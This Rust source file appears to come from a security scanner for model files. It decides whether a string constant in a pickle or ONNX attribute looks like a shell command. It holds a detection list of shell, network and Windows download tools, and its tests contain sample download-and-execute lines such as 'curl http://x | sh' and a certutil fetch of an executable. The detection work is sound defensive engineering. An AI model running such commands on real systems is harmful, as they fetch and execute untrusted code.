//! What constant strings look like, when that is evidence: shell command lines handed to a
//! callable (a pickle's arguments, an ONNX custom op's string attributes). One notion shared
//! by every analyser, so the same text is judged alike wherever it appears.

/// Programs a shell command usually starts with (basename of the first word).
const SHELL_PROGRAMS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "csh",
    "fish",
    "cmd",
    "cmd.exe",
    "powershell",
    "powershell.exe",
    "pwsh",
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "node",
    "rm",
    "chmod",
    "chown",
    "mkfifo",
    "touch",
    "echo",
    "cat",
    "id",
    "whoami",
    "uname",
    "env",
    "nohup",
    "sudo",
    "su",
    "ssh",
    "scp",
    "base64",
    "eval",
    "exec",
    "crontab",
    "systemctl",
    "kill",
    "pkill",
    "mv",
    "cp",
    "dd",
    // What proof-of-concept payloads run to show they ran.
    "ls",
    "ps",
    "calc",
    "calc.exe",
    "xcalc",
    "gnome-calculator",
    "notepad",
    "notepad.exe",
    "xdg-open",
    "osascript",
    // Windows living-off-the-land binaries that fetch or run code.
    "mshta",
    "rundll32",
    "regsvr32",
    "certutil",
    "bitsadmin",
    "wscript",
    "cscript",
    "schtasks",
    "nslookup",
    "ifconfig",
    "netstat",
    "hostname",
];

/// Whether `s` reads like a shell command line: a known program first, or shell syntax
/// that runs one (`| sh`, `$(…)`, backticks, `/bin/sh`).
pub(crate) fn looks_like_shell(s: &str) -> bool {
    let t = s.trim();
    let first = t.split_whitespace().next().unwrap_or_default();
    let prog = first.rsplit(['/', '\\']).next().unwrap_or(first);
    let known = SHELL_PROGRAMS.contains(&prog.to_ascii_lowercase().as_str());
    // A bare word ("echo", "cat") is an attribute value, not a command: require an argument
    // or an operator after it.
    let has_more = t.len() > first.len();
    (known && has_more)
        || [
            "/bin/sh",
            "/bin/bash",
            "| sh",
            "|sh",
            "| bash",
            "|bash",
            "$(",
            "&& ",
            "; rm ",
        ]
        .iter()
        .any(|p| t.contains(p))
        || (t.matches('`').count() >= 2)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn command_lines() {
        assert!(looks_like_shell("echo modelguard-test"));
        assert!(looks_like_shell("/bin/ls -la /root"));
        assert!(looks_like_shell(
            "certutil -urlcache -f http://x/a.exe a.exe"
        ));
        assert!(looks_like_shell("curl http://x | sh"));
        // A program name alone is a word (`StringDtype('python')`), ordinary text is text.
        assert!(!looks_like_shell("python"));
        assert!(!looks_like_shell("ls"));
        assert!(!looks_like_shell("the quick brown fox"));
        assert!(!looks_like_shell("int64"));
    }
}
